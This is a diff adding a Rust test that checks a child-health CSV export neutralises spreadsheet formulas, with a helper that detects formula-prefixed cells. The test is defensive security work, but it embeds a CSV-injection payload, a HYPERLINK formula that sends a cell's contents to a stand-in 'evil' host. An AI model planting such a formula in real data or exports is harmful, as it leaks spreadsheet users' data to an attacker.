@@ -159,3 +159,49 @@ async fn the_first_1000_days_export_by_kind_and_period_with_voids() {
         problem(refused, StatusCode::FORBIDDEN).await;
     }
 }
+
+/// Every cell of a CSV a spreadsheet would run as a formula: one starting with `=`, `+`, `@`, a
+/// tab or a carriage return, or with `-` unless it is a number.
+pub(crate) fn formulas(csv: &str) -> Vec<String> {
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    let cells = records.iter().flat_map(|r| r.iter().map(str::to_owned).collect::<Vec<_>>());
+    cells
+        .filter(|cell| match cell.as_bytes().first() {
+            Some(b'=' | b'+' | b'@' | b'\t' | b'\r') => true,
+            Some(b'-') => cell.parse::<f64>().is_err(),
+            _ => false,
+        })
+        .collect()
+}
+
+#[tokio::test]
+async fn text_that_a_spreadsheet_would_run_is_exported_inert() {
+    let app = TestApp::spawn().await;
+    let officer = app.token_for(Role::Officer, Some("14.01")).await;
+    let hostile = "=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")";
+    let body = serde_json::json!({"village_code": VILLAGE, "sex": "female", "birth_date": BIRTH,
+        "name": hostile, "mother_name": "+6281234567890"});
+    let child: Value = crate::common::created(app.register_child(&officer, body).await).await;
+    app.measure_at(&officer, &child, "2025-02-10", -2.5).await;
+
+    let (status, csv) = export(&app, &officer, "/api/v1/exports/children", "text/csv").await;
+    assert_eq!(status, 200);
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    let header = reader.headers().unwrap().clone();
+    let row = reader.records().next().unwrap().unwrap();
+    let cell = |name: &str| row.get(header.iter().position(|h| h == name).unwrap()).unwrap().to_owned();
+    assert_eq!(cell("name"), format!("'{hostile}"), "{csv}");
+    assert_eq!(cell("mother_name"), "'+6281234567890");
+    for kind in ["children", "measurements", "cases"] {
+        let (status, csv) = export(&app, &officer, &format!("/api/v1/exports/{kind}"), "text/csv").await;
+        assert_eq!(status, 200);
+        assert!(formulas(&csv).is_empty(), "{kind}: {:?}", formulas(&csv));
+    }
+    // A negative z-score stays a number.
+    let (_, measurements) = export(&app, &officer, "/api/v1/exports/measurements", "text/csv").await;
+    let mut reader = csv::Reader::from_reader(measurements.as_bytes());
+    let haz = reader.headers().unwrap().iter().position(|h| h == "haz").unwrap();
+    let row = reader.records().next().unwrap().unwrap();
+    assert!(row[haz].parse::<f64>().unwrap() < -2.0, "{measurements}");
+}
